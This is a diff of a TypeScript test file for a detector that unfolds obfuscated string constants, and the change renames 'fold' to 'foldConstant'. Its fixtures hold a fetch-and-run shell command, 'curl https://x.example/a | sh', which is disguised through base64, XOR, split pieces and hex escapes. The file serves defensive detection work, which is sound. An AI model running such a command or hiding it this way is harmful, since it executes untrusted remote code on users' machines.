@@ -1,6 +1,6 @@
 import { deflateSync, gzipSync } from "node:zlib";
 import { describe, expect, it } from "vitest";
-import { fold, foldShell } from "./fold.ts";
+import { foldConstant, foldShell } from "./fold.ts";
 
 const none = new Map();
 const known = new Map([
@@ -11,7 +11,7 @@ const known = new Map([
 const secret = "curl https://x.example/a | sh";
 const xored = (key: number): string => [...secret].map((char) => char.charCodeAt(0) ^ key).join(", ");
 
-describe("fold", () => {
+describe("foldConstant", () => {
   it.each([
     ["base64", `base64.b64decode("${btoa(secret)}").decode()`],
     ["base64 of an import", `__import__("base64").b64decode(b"${btoa(secret)}")`],
@@ -30,22 +30,24 @@ describe("fold", () => {
     ["pieces", `"cu" + "rl" + " h" + "ttps:/" + "/x.exa" + "mple/a" + " | sh"`],
     ["escapes", `"\\x63\\x75\\x72\\x6c https://x.example/a | sh"`],
   ])("computes %s", (_, expression) => {
-    expect(fold(expression, known)).toEqual({ text: secret, disguised: true });
+    expect(foldConstant(expression, known)).toEqual({ text: secret, disguised: true });
   });
 
   it("fills in known names", () => {
-    expect(fold(`f"{A}{B}"`, known)?.text).toBe("curl evil.sh");
-    expect(fold("A + B", known)?.text).toBe("curl evil.sh");
+    expect(foldConstant(`f"{A}{B}"`, known)?.text).toBe("curl evil.sh");
+    expect(foldConstant("A + B", known)?.text).toBe("curl evil.sh");
   });
 
   it("does not call a plain or a long joined text disguised", () => {
-    expect(fold(`"a plain text"`, none)).toEqual({ text: "a plain text", disguised: false });
-    expect(fold(`"a long first half of a message, " + "and its second half"`, none)?.disguised).toBe(false);
+    expect(foldConstant(`"a plain text"`, none)).toEqual({ text: "a plain text", disguised: false });
+    expect(foldConstant(`"a long first half of a message, " + "and its second half"`, none)?.disguised).toBe(
+      false,
+    );
   });
 
   it("knows nothing about input, calls and unclosed text", () => {
     for (const expression of ["input()", `"a" + name`, `"open`, "[1, 2", "((((((", `f"{unknown}"`])
-      expect(fold(expression, none)).toBeUndefined();
+      expect(foldConstant(expression, none)).toBeUndefined();
   });
 });
 
